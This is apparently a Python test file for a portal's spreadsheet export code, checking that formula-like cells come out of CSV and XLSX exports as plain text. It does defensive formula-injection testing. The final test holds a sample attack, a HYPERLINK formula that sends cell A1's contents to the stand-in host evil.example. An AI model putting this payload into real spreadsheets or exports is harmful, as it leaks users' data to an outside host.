"""Formula-like cells come out of every export as text (CSV/formula injection)."""

import csv
import io
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from portal.core.spreadsheet import FORMULA_STARTS, csv_cell, csv_row, formula_like, xlsx_row

formula_text = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=40))
any_text = st.text(max_size=60)
cells = st.one_of(any_text, formula_text, st.integers(), st.floats(allow_nan=False, allow_infinity=False),
                  st.none())


@given(formula_text)
def test_a_formula_like_text_gets_an_apostrophe_in_csv(value):
    assert csv_cell(value) == "'" + value
    assert not formula_like(csv_cell(value))


@given(any_text.filter(lambda v: not v.startswith(FORMULA_STARTS)))
def test_other_text_is_left_as_it_is(value):
    assert csv_cell(value) == value


@given(st.lists(st.one_of(any_text, formula_text), max_size=8))
def test_no_text_cell_read_back_begins_like_a_formula(row):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(row))
    read = next(csv.reader(io.StringIO(buffer.getvalue())), [])
    assert not any(cell.startswith(FORMULA_STARTS) for cell in read)


def test_numbers_stay_numbers_in_csv():
    assert csv_row([-5, 1.5, None]) == [-5, 1.5, None]


@given(st.lists(cells, min_size=1, max_size=6), st.booleans())
def test_xlsx_cells_keep_their_value_and_formula_like_text_is_a_string(row, write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Adatok") if write_only else workbook.active
    # openpyxl refuses control characters other than tab, newline, carriage return in cells
    row = [c.translate({n: None for n in range(32) if n not in (9, 10, 13)}) if isinstance(c, str) else c
           for c in row]
    sheet.append(xlsx_row(sheet, row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read(
        next(n for n in zipfile.ZipFile(io.BytesIO(buffer.getvalue())).namelist() if n.startswith("xl/worksheets/")))
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    for written, cell in zip(row, loaded[1], strict=False):
        if formula_like(written):
            # (XML reads every line break back as \n)
            expected = written.replace("\r\n", "\n").replace("\r", "\n")
            assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)


def test_the_hyperlink_attack_of_the_issue_is_text_in_both():
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Részletek")'
    assert csv_cell(attack).startswith("'=")
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [attack, 42]))
    assert sheet["A1"].data_type == "s" and sheet["B1"].value == 42
